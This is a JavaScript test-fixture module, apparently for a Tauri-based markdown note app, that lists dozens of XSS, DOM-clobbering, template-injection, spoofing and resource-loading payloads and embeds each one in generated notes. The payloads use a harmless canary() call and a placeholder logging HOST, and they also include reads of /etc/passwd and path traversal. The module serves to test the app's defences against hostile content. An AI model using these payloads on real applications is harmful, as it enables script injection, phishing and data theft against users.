// Texts that try to run scripts, load remote content, navigate the window, or imitate parts of it. `HOST` stands for
// a server that records every request; `canary()` is a function in the window that only a script could call.
import { readFile } from "node:fs/promises";

const px = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABh6FO1AAAAABJRU5ErkJggg==";

export const payloads = [
  // Script
  "<script>canary('script')</script>",
  "<scr<script>ipt>canary('nested')</scr</script>ipt>",
  "<SCRIPT SRC=HOST/s.js></SCRIPT><script type=module>import('HOST/m.js')</script>",
  "</script><script\u000c>canary('closed')</script\u000c>",
  "<script>//-->\ncanary('lines')\n</script>",
  // Handlers
  "<img src=x onerror=\"canary('error')\">",
  '<img src="' + px + "\" onload=canary('load')>",
  "<img/src/onerror=canary('slashes')>",
  "<img src=x onerror\n=\ncanary('breaks')>",
  "<details open ontoggle=canary('toggle')><summary>a</summary>b</details>",
  "<input autofocus onfocus=canary('focus')><button autofocus onfocus=canary('focus')>a</button>",
  "<video><source onerror=canary('source')></video><audio src=HOST/a.mp3 autoplay oncanplay=canary('audio')>",
  "<body onload=canary('body') onpageshow=canary('show')>",
  "<marquee onstart=canary('start') loop=1>a</marquee>",
  "<p style=\"animation:spin 1s\" onanimationstart=canary('animation')>a</p>",
  "<a onmouseover=canary('over') onpointerenter=canary('enter') href=#x>a</a>",
  "<x-y onclick=canary('own') tabindex=1 autofocus onfocus=canary('own') contenteditable>a</x-y>",
  "<dialog open onclose=canary('dialog')><button popovertarget=p>a</button></dialog><p popover id=p>b</p>",
  // SVG and MathML, including mutations on reparsing
  "<svg onload=canary('svg')><script>canary('svg script')</script></svg>",
  "<svg><animate onbegin=canary('begin') attributeName=x dur=1s></svg>",
  "<svg><a xlink:href=\"javascript:canary('xlink')\"><text y=20>a</text></a></svg>",
  '<svg><set attributeName=href to="javascript:canary(\'set\')"/><use href="HOST/u.svg#a"/></svg>',
  "<svg><foreignObject><iframe srcdoc=\"<script>parent.canary('foreign')</script>\"></iframe></foreignObject></svg>",
  "<svg></p><style><a title=\"</style><img src=x onerror=canary('mutated')>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=canary('glyph')&gt;\">",
  "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=canary('annotation')></annotation-xml></math>",
  "<math href=\"javascript:canary('math')\">a</math>",
  "$\\href{javascript:canary('tex')}{a}$ $$\\url{HOST/tex} \\htmlData{a=b}{c}$$",
  // Links
  "[a](javascript:canary('link')) [b](JaVaScRiPt&colon;canary('case')) <javascript:canary('auto')>",
  "[a](java\tscript:canary('tab)) <a href=\"java&#10;script:canary('line')\">b</a> <a href=\"&#1;javascript:canary('control')\">c</a>",
  "[a][1] ![b][1]\n\n[1]: javascript:canary('reference')",
  "[a](data:text/html,<script>canary('data')</script>) [b](vbscript:canary) [c](file:///etc/passwd)",
  "[[javascript:canary('wiki')|a]] ![[data:text/html,<script>canary('embed')</script>]]",
  "[a](tauri://localhost/) [b](ipc://localhost/open_external) [c](vault://localhost/Target.md) [d](//HOST/x)",
  '<a href="HOST/a" ping="HOST/ping" target=_blank download rel=prefetch>a</a>',
  "<area href=HOST/area><map name=m><area shape=default href=javascript:canary('area')></map><img usemap=#m src=x>",
  "[a](https://bank.example@evil.example/) [b](https://\u0430pple.com/) [c](https://a.example/\u202egnp.exe)",
  // Navigation and requests
  '<meta http-equiv=refresh content="0;url=HOST/refresh">',
  "<base href=HOST/><base target=_blank>",
  "<form action=HOST/form id=f><input name=a><button>b</button></form><button form=f formaction=javascript:canary('form')>c</button>",
  "<iframe src=HOST/frame></iframe><iframe srcdoc=\"<script>parent.canary('srcdoc')</script>\"></iframe>",
  "<frameset><frame src=javascript:canary('frame')></frameset><portal src=HOST/portal></portal><fencedframe></fencedframe>",
  // Loading
  "<link rel=stylesheet href=HOST/l.css><link rel=prefetch href=HOST/p><link rel=dns-prefetch href=HOST><link rel=import href=HOST/i>",
  "<style>@import 'HOST/i.css'; body { display: none } input[value^=a] { background: url(HOST/a) }</style>",
  "<object data=HOST/o.swf></object><embed src=HOST/e.swf><applet code=a archive=HOST/a.jar></applet>",
  '<img srcset="HOST/1x.png 1x" src=HOST/s.png><picture><source srcset=HOST/p.png><img></picture>',
  '![a](HOST/i.png) ![b][r] <img src="HOST/r.png">\n\n[r]: HOST/r.png',
  "![a](http:HOST/i.png) ![b](\\\\HOST\\i.png) ![c](vault://localhost/../../etc/passwd) ![d](data:image/svg+xml,<svg/onload=canary('svg')>)",
  "<video poster=HOST/p.png></video><table background=HOST/t.png></table><input type=image src=HOST/n.png>",
  '<p style="background:url(HOST/b.png);position:fixed;inset:0;z-index:9999">a</p>',
  // Imitations of the window's parts
  '<div class="veil app-notice drop-veil panes" style="position:fixed;inset:0" data-testid=composer role=alert>a</div>',
  '<section class="reader scroll page" id=app hidden><p class="chip current card">1</p></section>',
  // Names that code looks up
  "<form id=body name=body><input name=getElementById><input id=querySelector name=attributes></form>",
  "<a id=__TAURI_INTERNALS__ name=invoke href=x>a</a><a id=__TAURI_INTERNALS__ name=ipc>b</a><img name=cookie>",
  "__proto__",
  "constructor",
  "{{constructor.constructor('canary(1)')()}} ${canary('template')} #{canary} {@html '<img src=x onerror=canary()>'}",
  // Containers and ends
  "<template><script>canary('template')</script></template><noscript><p title=\"</noscript><img src=x onerror=canary('noscript')>\">",
  "<textarea></textarea><img src=x onerror=canary('textarea')><title></title><xmp><plaintext>",
  "<!--><img src=x onerror=canary('comment')>--> <!-- never closed <img src=x onerror=canary('open')>",
  "<![CDATA[<img src=x onerror=canary('cdata')>]]> <?xml-stylesheet href=\"javascript:canary('xml')\"?> <!ENTITY x>",
  "%% never closed\n\n<img src=x onerror=canary('percent')>",
  // Encodings
  "&lt;script&gt;canary('entity')&lt;/script&gt; &#x3c;img src=x onerror=canary('number')&#x3e;",
  "+ADw-script+AD4-canary('utf-7')+ADw-/script+AD4- \\u003cscript\\u003ecanary()\\u003c/script\\u003e %3Cscript%3E",
  "<img\0src=x\0onerror=canary('nul')> \0<script>\0canary('nul')</script>",
  "\u202e<gnp.exe>\u202c \u2066\u200b\u2060\ufeff\u2069 \ufdd00\ufdd1 \ud83d\udc69\u200d\ud83d\udc67",
  // Size
  "<b>".repeat(500) + "a",
  "> ".repeat(300) + "a",
  "a" + "\u0301\u0327".repeat(500),
  "W".repeat(3_000),
  '![[Target.png|99999x99999]] <img src="' + px + '" width=99999 height=99999>',
  "\n".repeat(50) + "a".padEnd(400, "\t"),
  // Code, callouts, front matter
  "```\"><img src=x onerror=canary('fence')>\n</code></pre><script>canary('code')</script>\n```",
  "> [!<img src=x onerror=canary('callout')>]- <script>canary('title')</script>\n> a",
  "---\ntitle: <script>canary('front')</script>\n---\n\na",
  "```mermaid\ngraph TD; A-->B; click A \"javascript:canary('mermaid')\"\n```",
];

/** Lists of texts in JSON files: strings, or objects with a `payload`. */
export async function payloadsIn(files) {
  const lists = await Promise.all(files.map(async (file) => JSON.parse(await readFile(file, "utf8")).map((entry) => entry.payload ?? entry)));
  return lists.flat();
}

/** Short names of notes by payload, which can be typed to find them. */
const key = (number) => `k${String(number).padStart(4, "0")}`;

/** The part of a text that is valid in a file name. */
function nameOf(text) {
  let name = text.replaceAll("/", "\u2215").replaceAll("\0", "");
  while (Buffer.byteLength(name) > 200) name = [...name].slice(0, -1).join("");
  return name.isWellFormed() ? name : name.toWellFormed();
}

/** Notes with the payload in every place for text. */
function notesOf(payload, key) {
  const line = payload.replace(/[\r\n]+/g, " ");
  const json = JSON.stringify(payload);
  const quoted = (lines) => lines.map((one) => `> ${one}`).join("\n\n");
  return [
    {
      path: `${key} ${nameOf(payload)}.md`,
      text: [
        "---",
        `title: ${json}`,
        `aliases: [${json}, ${key}]`,
        `tags: [${json}]`,
        `cssclasses: ${json}`,
        `${json}: ${json}`,
        `link: ${JSON.stringify(`[[${line}]]`)}`,
        "---",
        "",
        `${key}word ${line} [[Target]]`,
      ].join("\n"),
    },
    { path: `${key}t.md`, text: payload },
    {
      path: `${key}p.md`,
      text: quoted([
        `# ${line}`,
        `before ${line} after`,
        `**${line}** *${line}* ==${line}== ~~${line}~~`,
        `- [ ] ${line}`,
        `1. ${line}`,
        `#${line}`,
        `text ^${line}`,
        `text[^1]\n> [^1]: ${line}`,
        `[!note]- ${line}\n> ${line}`,
        `$${line}$ $$${line}$$`,
        `| ${line} | b |\n> |---|---|\n> | ${line} | \`${line}\` |`,
        `\`\`\`${line}\n> ${line}\n> \`\`\``,
        `%%${line}%% <!--${line}-->`,
      ]),
    },
    {
      path: `${key}l.md`,
      text: quoted([
        `[[${line}]] [[${line}|a]] [[a|${line}]] [[Target#${line}]] [[Target#^${line}|${line}]]`,
        `![[${line}]] ![[Target.png|${line}]] ![[Target#${line}]]`,
        `[${line}](Target.md) [a](${line}) [a](<${line}>) [a](Target.md "${line}") [a](https://a.example/${line})`,
        `![${line}](Target.png) ![a](${line}) ![a](<${line}> "${line}") ![a](https://a.example/${line})`,
        `[a][r] ![a][r]\n>\n> [r]: <${line}> "${line}"`,
        `<${line}> https://a.example/${line}`,
        `<a href="${line}" title="${line}" class="${line}" ${line}>a</a> <img src="${line}" alt="${line}" ${line}>`,
      ]),
    },
  ];
}

/** All notes for these payloads, with `HOST` replaced. */
export function hostileNotes(payloads, host) {
  return payloads.map((payload, number) => {
    const text = payload.replaceAll("HOST", host);
    return { key: key(number), payload: text, notes: notesOf(text, key(number)) };
  });
}
